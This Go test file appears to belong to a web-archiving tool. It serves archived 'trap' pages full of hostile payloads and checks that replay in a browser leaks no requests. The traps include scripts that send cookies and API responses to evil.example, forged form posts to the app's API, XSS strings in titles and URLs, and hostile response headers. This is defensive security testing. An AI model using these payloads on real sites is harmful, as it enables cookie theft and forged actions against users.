package main

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/ibid-archive/ibid/internal/chromiumtest"
)

// trap is a page of a site that wants what it must not have. In it APP is the application, and SITE the site itself, as it
// is today; nobody may reach either of them from what is archived, and nobody at all evil.example.
type trap struct {
	body   string
	header map[string]string
}

var traps = map[string]trap{
	"cookies":                     {body: `<script>document.cookie="lang=fr; path=/";new Image().src="http://evil.example/"+document.cookie</script><meta http-equiv=Set-Cookie content="lang=fr">`},
	"calls of the API":            {body: `<script>for(const u of ["APP/api/v1/collections/default/documents?name=x.md","APP/save"])fetch(u,{method:"POST",mode:"no-cors",credentials:"include",body:"# x"});fetch("APP/api/v1/collections").then(r=>r.text()).then(t=>fetch("http://evil.example/?"+t))</script><img src="APP/api/v1/collections"><link rel=stylesheet href="APP/assets/ibid.css">`},
	"leaving the frame":           {body: `<base target=_top><a id=a href="http://evil.example/">x</a><script>try{top.location="http://evil.example/"}catch(e){}try{parent.document.title="taken"}catch(e){}a.click();document.documentElement.requestFullscreen()</script><meta http-equiv=refresh content="0;url=http://evil.example/">`},
	"a service worker":            {body: `<script>navigator.serviceWorker?.register("/sw.js",{scope:"/"});navigator.serviceWorker?.register("SITE/sw.js");new Worker("SITE/sw.js");new SharedWorker("SITE/sw.js")</script>`},
	"a form in the reader's name": {body: `<form id=f method=post action="APP/save"><input name=url value="http://evil.example/"></form><form id=g method=post action="APP/api/v1/collections/default/schedules/pause" enctype="text/plain" target=_blank></form><script>f.submit();g.submit()</script>`},
	"windows":                     {body: `<script>open("http://evil.example/");open("APP/");open("SITE/")</script><a id=a target=_blank href="http://evil.example/">x</a><script>a.click();print();alert(1)</script>`},
	"sockets":                     {body: `<script>new WebSocket("ws://evil.example/");new RTCPeerConnection({iceServers:[{urls:"stun:evil.example"}]}).createOffer();new EventSource("http://evil.example/");try{new WebTransport("https://evil.example/")}catch(e){}</script>`},
	"what was never archived":     {body: `<img src="http://evil.example/a.png"><img src="SITE/later.png?"><link rel=stylesheet href="http://evil.example/a.css"><script src="http://evil.example/a.js"></script><video src="SITE/later.mp4" autoplay></video><iframe src="http://evil.example/"></iframe><style>@import "http://evil.example/b.css";body{background:url(http://evil.example/b.png)}@font-face{font-family:x;src:url(http://evil.example/x.woff)}body{font-family:x}</style>`},
	"dangerous headers":           {header: map[string]string{"Refresh": "0; url=http://evil.example/", "Link": "<http://evil.example/a.css>; rel=stylesheet, <http://evil.example/>; rel=preload; as=image", "Set-Cookie": "lang=fr; Path=/", "Clear-Site-Data": `"*"`, "Service-Worker-Allowed": "/", "Access-Control-Allow-Origin": "*", "Content-Security-Policy": "default-src *", "Content-Security-Policy-Report-Only": "default-src 'none'; report-uri http://evil.example/csp", "NEL": `{"report_to":"d","max_age":9,"success_fraction":1}`, "Report-To": `{"group":"d","max_age":9,"endpoints":[{"url":"https://evil.example/"}]}`, "Alt-Svc": `h2="evil.example:80"`, "SourceMap": "http://evil.example/map", "Speculation-Rules": `"http://evil.example/s.json"`, "X-Frame-Options": "DENY", "Location": "http://evil.example/"}, body: `<img src=x.png>`},
	"a title that is more":        {body: `<title>&lt;/title&gt;&lt;img src=http://evil.example/t onerror="fetch('http://evil.example/u')"&gt;&lt;script&gt;fetch("http://evil.example/v")&lt;/script&gt;</title>`},
	"an address that is more/x'y": {body: `<script>fetch(location);fetch("http://evil.example/?"+document.referrer)</script>`},
}

// tail makes every address of a trap one that is more than an address, where it is written without care.
const tail = `?q=%22%3E%3Cimg%20src=http://evil.example/address%3E%27`

// trapNames are those of the traps, in the order of their numbers.
func trapNames() []string { return slices.Sorted(maps.Keys(traps)) }

// trapSite serves the traps of an application to whoever archives them.
func trapSite(app string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		n, err := strconv.Atoi(strings.TrimPrefix(r.URL.Path, "/trap/"))
		if err != nil {
			http.NotFound(w, r)
			return
		}
		trap := traps[trapNames()[n]]
		for name, value := range trap.header {
			w.Header().Set(name, value)
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, "<!DOCTYPE html><p>It is shown.</p>"+strings.NewReplacer("APP", app, "SITE", "http://"+r.Host).Replace(trap.body)) //nolint:gosec // a trap
	}
}

// attacked archives the traps, opens them as somebody who may do everything, with scripts and without, and reads what is
// told of them: nothing is asked for but what is archived.
func (s *seen) attacked() {
	note := "# <img src=http://evil.example/heading>\n\n"
	for i, name := range trapNames() {
		note += fmt.Sprintf("\"><img src=http://evil.example/context> of [%s](%s/trap/%d%s).\n\n", name, s.site, i, tail)
	}
	_, document := s.archives("traps.md", note)
	for _, modifier := range []string{"", "on_", "ia_"} {
		for some := range slices.Chunk(trapNames(), 6) {
			s.opened(some, modifier)
		}
	}
	tab := s.Tab(s.T)
	for _, path := range []string{"/", "/documents", "/documents/" + document, "/search?q=evil.example", s.find("/documents/"+document, `href="(/references/[^"]+)"`), "/web/*/" + s.site + "/trap/0" + tail} {
		tab.Open(s.app + path)
		s.onlyOurs(path)
	}
}

// archives has the application archive a document, and returns the IDs of the Job and of the document.
func (s *seen) archives(name, note string) (id, document string) {
	s.Helper()
	var job struct{ ID, State, Document string }
	read := func(answer string) {
		if err := json.Unmarshal([]byte(answer), &job); err != nil || job.ID == "" {
			s.Fatalf("%v: %s", err, answer)
		}
	}
	read(s.ask(http.MethodPost, "/api/v1/collections/default/documents?name="+name, note))
	tick := time.NewTicker(50 * time.Millisecond)
	defer tick.Stop()
	for job.State != "done" && job.State != "failed" {
		<-tick.C
		read(s.ask(http.MethodGet, "/api/v1/jobs/"+job.ID, ""))
	}
	return job.ID, job.Document
}

// opened opens some traps at once, and looks at what they ask for.
func (s *seen) opened(some []string, modifier string) {
	s.Asked()
	var tabs []*chromiumtest.Tab
	var frames []string
	for _, name := range some {
		uri := fmt.Sprintf("%s/trap/%d%s", s.site, slices.Index(trapNames(), name), tail)
		held := strings.Fields(s.ask(http.MethodGet, "/cdx?fl=timestamp,original&limit=1&url="+url.QueryEscape(uri), ""))
		if len(held) != 2 {
			s.Fatalf("%s: %s is not held: %q", name, uri, held)
		}
		frames = append(frames, s.app+"/web/"+held[0]+modifier+"/"+held[1])
		tabs = append(tabs, s.Tab(s.T))
		tabs[len(tabs)-1].Open(frames[len(frames)-1])
	}
	select {
	case <-time.After(1500 * time.Millisecond): // for what they do by and by
	case <-s.Context().Done():
	}
	for i, tab := range tabs {
		// A frame may go on, to what is not in the archive.
		if text := tab.FrameText(""); !strings.Contains(text, "It is shown.") && !strings.Contains(text, "no capture of it is held") {
			s.Errorf("%s: in the frame stands %q", some[i], text)
		}
		tab.Close()
	}
	for _, r := range s.Asked() {
		byPage := r.Site == "same-origin" && (strings.HasPrefix(r.URL, s.app+"/assets/") || r.URL == s.app+"/favicon.ico")
		byHand := r.Site == "none" && slices.Contains(frames, r.URL)
		fromArchive := strings.HasPrefix(r.URL, s.replay+"/web/") || strings.HasPrefix(r.URL, s.replay+"/replaywebpage/")
		if !r.Allowed || r.Method != http.MethodGet || !byPage && !byHand && !fromArchive {
			s.Errorf("one of %q asks for %+v", some, r)
		}
	}
}
